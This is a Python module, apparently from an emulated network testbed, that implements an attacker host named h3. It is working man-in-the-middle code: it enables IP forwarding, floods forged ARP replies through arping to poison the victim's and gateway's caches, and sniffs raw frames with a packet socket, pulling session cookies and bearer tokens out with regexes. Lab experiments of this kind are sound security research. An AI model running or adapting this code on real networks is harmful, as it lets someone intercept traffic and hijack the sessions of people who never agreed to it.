"""The attacker on h3: poisons the LAN's caches, reads what passes, and uses it."""

from __future__ import annotations

import re
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from testbed import Process, RunningNetwork

NODE, INTERFACE = "h3", "h3-eth0"
LIES = 1000
"""Number of forged replies per victim, one per second: more than the experiment takes seconds."""

_IPV4 = 0x0800
_MOST_BYTES = 65_536
_COOKIE = re.compile(rb"\r\nCookie: session=([0-9a-f]+)")
_BEARER = re.compile(rb"\r\nAuthorization: Bearer ([\w.-]+)")


class Thief:
    """What the attacker knows.

    Attributes:
        session: the last session id that it read; ``none`` if there was none.
        token: the same of a token.
    """

    def __init__(self, net: RunningNetwork) -> None:
        self.net = net
        self.session = self.token = "none"
        self._ears = net.inside(NODE, self._listen)

    def _listen(self) -> socket.socket:
        ears = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_IPV4))
        ears.bind((INTERFACE, _IPV4))
        ears.setblocking(False)
        return ears

    def poison(self, victim: str, gateway: str) -> list[Process]:
        """Says again and again that both addresses are h3's; passes on what comes.

        Args:
            victim, gateway: their IPv4 addresses.
        """
        for name, value in {
            "ip_forward": 1,
            "ip_nonlocal_bind": 1,
            "conf.all.send_redirects": 0,
            f"conf.{INTERFACE}.send_redirects": 0,
        }.items():
            self.net.sysctl(NODE, f"net.ipv4.{name}", value)
        lie = ("arping", "-q", "-U", "-c", str(LIES), "-I", INTERFACE)
        return [self.net.start(NODE, *lie, "-s", address, address) for address in (gateway, victim)]

    @contextmanager
    def listening(self) -> Iterator[None]:
        """Reads what passes meanwhile."""
        self._hear()  # what passed before, and filled the buffer
        self.session = self.token = "none"
        yield
        self._hear()

    def _hear(self) -> None:
        while True:
            try:
                frame = self._ears.recv(_MOST_BYTES)
            except BlockingIOError:
                return
            if found := _COOKIE.search(frame):
                self.session = found[1].decode()
            if found := _BEARER.search(frame):
                self.token = found[1].decode()

    def close(self) -> None:
        """Stops listening."""
        self._ears.close()
